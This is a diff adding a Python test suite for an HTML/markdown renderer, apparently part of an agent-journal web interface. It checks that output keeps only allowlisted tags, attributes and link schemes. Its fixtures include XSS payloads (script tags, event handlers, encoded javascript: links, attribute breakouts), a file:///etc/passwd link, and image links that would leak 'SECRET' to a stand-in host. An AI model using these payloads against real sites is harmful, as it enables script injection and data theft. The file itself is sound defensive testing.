@@ -1,0 +1,292 @@
+"""The renderer against hostile and ordinary content: what comes out is parsed as a browser would."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from core.journal.record import Record
+from core.language.variables import text_value
+from core.ports import JSON
+from web.records import record_html, record_message
+from web.render import markdown, output, reply_with_actions
+from web.visible import visible, without_escapes
+
+TAGS = frozenset(
+    [
+        "a",
+        "blockquote",
+        "br",
+        "code",
+        "dd",
+        "del",
+        "details",
+        "div",
+        "dl",
+        "dt",
+        "em",
+        "footer",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "header",
+        "hr",
+        "li",
+        "ol",
+        "p",
+        "pre",
+        "s",
+        "section",
+        "span",
+        "strong",
+        "summary",
+        "table",
+        "tbody",
+        "td",
+        "th",
+        "thead",
+        "tr",
+        "ul",
+    ]
+)
+ATTRIBUTES = frozenset({"class", "href", "rel", "target", "start"})
+
+
+class Checker(HTMLParser):
+    """Collects tags, links and text, and fails on anything that isn't on the short lists."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.links: list[str] = []
+        self.text = ""
+        self.open: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS, tag
+        for name, value in attrs:
+            assert name in ATTRIBUTES, name
+            if name == "href":
+                assert value is not None
+                assert value.startswith(("http://", "https://", "mailto:")), value
+                self.links.append(value)
+        if tag not in ("br", "hr"):
+            self.open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open.pop() == tag, "an element of the content closed one of ours"
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(f"a comment came through: {data}")
+
+    def handle_decl(self, decl: str) -> None:
+        raise AssertionError(f"a declaration came through: {decl}")
+
+
+def check(html: str) -> Checker:
+    """Parse `html`, failing on anything unsafe."""
+    checker = Checker()
+    checker.feed(html)
+    checker.close()
+    assert checker.open == []
+    return checker
+
+
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "image with handler": "<img src=x onerror=alert(1)>",
+    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "comment": "<!-- --><script>alert(1)</script> -->",
+    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
+    "style": "<style>*{display:none}</style> <b style='position:fixed'>x</b>",
+    "closing our elements": "</div></article></main><h1>gone</h1>",
+    "javascript link": "[x](javascript:alert(1))",
+    "javascript link, coded": "[x](&#106;avascript:alert(1)) [y](java&Tab;script:alert(1))",
+    "javascript link, upper case": "[x](JaVaScRiPt:alert(1))",
+    "javascript autolink": "<javascript:alert(1)>",
+    "vbscript and data": "[x](vbscript:x) [y](data:text/html;base64,PHNjcmlwdD4=)",
+    "file link": "[x](file:///etc/passwd)",
+    "relative and host-relative links": "[x](/ws) [y](//evil.test/) [z](?token=1) [w](#top)",
+    "image": "![x](https://evil.test/?q=SECRET)",
+    "image by reference": "![x][r]\n\n[r]: https://evil.test/?q=SECRET",
+    "image in a link": "[![x](https://evil.test/a.png)](javascript:alert(1))",
+    "title that breaks out": '[x](https://a.test "\\"><script>alert(1)</script>")',
+    "attribute that breaks out": '[x](<https://a.test/"onmouseover="alert(1)>)',
+    "language that breaks out": '```"><script>alert(1)</script>\nx\n```',
+    "table alignment": "| a | b |\n|:-:|--:|\n| 1 | <b>2</b> |",
+    "unbalanced": "**x [y](z `code",
+    "deep quotes": ">" * 400 + " x",
+    "deep lists": "".join("  " * depth + "- x\n" for depth in range(200)),
+    "many brackets": "[" * 5000,
+    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "id": '<a id="composer-text" name="x">x</a> {#composer-text}',
+    "null": "a\x00b",
+    "line separators": "a\u2028b\u2029c",
+    "surrogate": "a\ud800b",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_nothing_unsafe_comes_out(text: str) -> None:
+    for html in (markdown(text), output(text), reply_with_actions(text)):
+        check(html)
+    for kind in (
+        "say",
+        "turn",
+        "reply",
+        "result",
+        "notice",
+        "control",
+        "spawn",
+        "discard",
+        "gate",
+        "strange",
+    ):
+        fields: dict[str, JSON] = {
+            "op": "inject", "function": text, "status": text, "reason": text, "caller": text, "level": text,
+            "mode": text, "by": text, "var": text, "data": {"exit": text}, "ms": 3,
+        }  # fmt: skip
+        check(record_html(Record(1, "", kind, "/", 1, text, fields)))
+
+
+@given(st.text(alphabet=st.sampled_from("<>&\"'`~*_[]()!|#-=: \n\\/axs1."), max_size=120))
+def test_nothing_unsafe_comes_out_of_any_markup(text: str) -> None:
+    check(markdown(text))
+    check(reply_with_actions(text))
+
+
+@given(st.text(max_size=200))
+def test_every_text_renders(text: str) -> None:
+    check(markdown(text))
+    check(output(text))
+
+
+def test_links_lead_only_to_web_and_mail_and_show_the_host() -> None:
+    html = markdown("[bank](https://bank.test@evil.test/login) <mailto:a@b.test> [no](ftp://x.test/)")
+    checked = check(html)
+    assert checked.links == ["https://bank.test@evil.test/login", "mailto:a@b.test"]
+    assert 'rel="noopener noreferrer nofollow"' in html
+    assert "bank evil.test" in checked.text
+    assert "ftp://x.test/" in checked.text
+
+
+def test_a_remote_image_is_named_and_not_loaded() -> None:
+    html = markdown("![plan](https://evil.test/?q=SECRET)")
+    assert "<img" not in html
+    assert "plan" in html
+    assert "https://evil.test/?q=SECRET" in check(html).text
+
+
+def test_bidirectional_and_hidden_characters_are_made_visible() -> None:
+    trick = "if admin\u202e { \u2066// check\u2069 \u200b\U000e0041"
+    for html in (markdown(trick), output(trick), markdown("&#x202e;x"), markdown(f"```\n{trick}\n```")):
+        assert not set(html) & set("\u202e\u2066\u2069\u200b\U000e0041")
+        assert "‹U+202E›" in html
+    assert visible("a\x07b\tc\n") == "a␇b\tc\n"
+    assert visible("👩‍👩‍👧 می‌خواهم") == "👩‍👩‍👧 می‌خواهم"
+
+
+@pytest.mark.parametrize(
+    ("given_text", "left"),
+    [
+        ("\x1b[31mred\x1b[0m", "red"),
+        ("\x1b]8;;http://evil.test\x07link\x1b]8;;\x07", "link"),
+        ("\x1b]0;title\x1b\\text", "text"),
+        ("\x9b2Jcleared", "cleared"),
+        ("10 %\r50 %\r100 %\n", "100 %\n"),
+        ("one\r\ntwo\r\n", "one\ntwo\n"),
+        ("\x1b(Bplain\x1b=", "plain"),
+    ],
+)
+def test_terminal_escapes_are_taken_out(given_text: str, left: str) -> None:
+    assert without_escapes(given_text) == left
+
+
+def test_long_output_keeps_its_ends_and_says_what_is_missing() -> None:
+    html = output("a" * 30_000 + "b" * 10_000_000 + "THE END")
+    assert len(html) < 40_000
+    assert "THE END" in html
+    assert "9,998,007 characters are left out" in html
+
+
+def test_actions_are_cards_and_other_code_is_not() -> None:
+    html = reply_with_actions("Look:\n\n```shell.run timeout=20\nls <dir>\n```\n\n```sql\nselect 1\n```\n")
+    checked = check(html)
+    assert html.count('<section class="card action">') == 1
+    assert "timeout=20" in checked.text
+    assert "ls <dir>" in checked.text
+    assert '<span class="language">sql</span>' in html
+
+
+def test_a_script_that_quotes_code_stays_one_card() -> None:
+    html = reply_with_actions("```shell.run\ncat <<E\n```python\nx\n```\nE\n```\n")
+    assert html.count('<section class="card action">') == 1
+    assert "E</code>" in html
+
+
+def test_a_turn_carries_its_messages_to_children() -> None:
+    body = (
+        "```shell.run\nls\n```\n"
+        '```CALL coder role="neat"\nFix **it**.\n```\n'
+        '```CALL name=tester message="Test it."\n```\n'
+    )
+    message = record_message(Record(7, "", "turn", "/lead", 3, body, {"finish": "stop"}))
+    assert message["messages"] == [
+        {"action": 1, "to": "/lead/coder", "html": "<p>Fix <strong>it</strong>.</p>\n"},
+        {"action": 2, "to": "/lead/tester", "html": "<p>Test it.</p>\n"},
+    ]
+
+
+def test_header_fields_of_a_record_cannot_replace_its_frame() -> None:
+    record = Record(3, "then", "say", "/", 1, "hi", {"type": "ok", "html": "<script>", "n": 9, "body": "no"})
+    message = record_message(record)
+    assert (message["type"], message["n"], message["body"]) == ("record", 3, "hi")
+    assert message["html"] == "<p>hi</p>\n"
+
+
+def test_a_result_shows_status_exit_duration_and_variable() -> None:
+    fields: dict[str, JSON] = {
+        "function": "shell.run", "status": "error", "ms": 1530, "var": "run_2", "data": {"exit": 2},
+    }  # fmt: skip
+    text = check(record_html(Record(1, "", "result", "/", 1, "\x1b[1mno such file\x1b[0m", fields))).text
+    for fact in ("shell.run", "error", "exit 2", "1.5 s", "$run_2", "no such file"):
+        assert fact in text
+    assert "[1m" not in text
+
+
+KNOWN = {"run_1": text_value("x"), "run_12": text_value("y"), "a": text_value("z")}
+
+
+@pytest.mark.parametrize(
+    ("text", "chips"),
+    [
+        ("$run_1 and $run_12, **$a**.", ["$run_1", "$run_12", "$a"]),
+        ("$run_13 $runs $ab $aé", []),
+        ("`$run_1` and\n\n```\n$a\n```\n", []),
+        ("[$run_1](https://example.com) $a", ["$a"]),
+        ("<b>$a</b> $a<script>", ["$a", "$a"]),
+        ("- $a\n\n| x |\n|---|\n| $run_1 |\n", ["$a", "$run_1"]),
+    ],
+)
+def test_known_variables_become_chips(text: str, chips: list[str]) -> None:
+    html = markdown(text, KNOWN)
+    assert re.findall(r'<button class="chip">([^<]*)</button>', html) == chips
+    assert check(html.replace('<button class="chip">', "<span>").replace("</button>", "</span>"))
+    assert "<button" not in markdown(text)
+
+
+@given(st.text(alphabet="$a<>&\"'[]()`*_!\n |run_1", max_size=60))
+def test_chips_hold_nothing_but_a_name(text: str) -> None:
+    html = markdown(text, KNOWN)
+    for content in re.findall(r"<button[^>]*>.*?</button>", html, re.DOTALL):
+        assert content in {f'<button class="chip">${name}</button>' for name in KNOWN}
+    check(html.replace('<button class="chip">', "<span>").replace("</button>", "</span>"))
